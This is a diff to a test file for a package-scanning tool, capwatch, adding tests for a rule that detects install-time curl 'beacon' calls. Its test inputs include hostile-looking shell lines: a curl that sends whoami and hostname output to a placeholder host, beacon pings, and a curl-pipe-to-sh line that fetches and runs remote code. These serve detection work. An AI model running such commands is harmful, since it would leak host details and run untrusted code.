@@ -8,6 +8,7 @@ from tests.helpers import sdist_bytes
 from capwatch.capabilities.shell import commands, shell_capabilities
 from capwatch.engine import scan_bytes
 from capwatch.model import Phase
+from capwatch.rules.install_beacon import curl_beacon
 
 
 @pytest.mark.parametrize(
@@ -51,3 +52,23 @@ def test_capabilities_come_in_command_order() -> None:
     found = shell_capabilities('curl -H "u: $(whoami)" -H "h: $(hostname)" https://x.invalid; id')
     programs = [program for cap, program in found if cap == "host.fingerprint"]
     assert programs == ["whoami", "hostname", "id"]
+
+
+@pytest.mark.parametrize(
+    ("line", "url"),
+    [
+        ("curl https://h.example/installed", "https://h.example/installed"),
+        ("echo hi; curl -s 'https://h.example/p?u=1' > /dev/null", "https://h.example/p?u=1"),
+        ("sudo curl -fsSL https://h.example/a/b && make", "https://h.example/a/b"),
+        # saved, piped into a program, or only the host: not a beacon
+        ("curl -o out.tgz https://h.example/a.tgz", None),
+        ("curl -fsSLO https://h.example/a.tgz", None),
+        ("curl https://h.example/a.tgz > a.tgz", None),
+        ("curl --output=a.tgz https://h.example/a.tgz", None),
+        ("curl -fsSL https://h.example/install.sh | sh", None),
+        ("curl https://h.example/", None),
+        ("wget https://h.example/a.tgz", None),
+    ],
+)
+def test_curl_beacon(line: str, url: str | None) -> None:
+    assert curl_beacon(line) == url
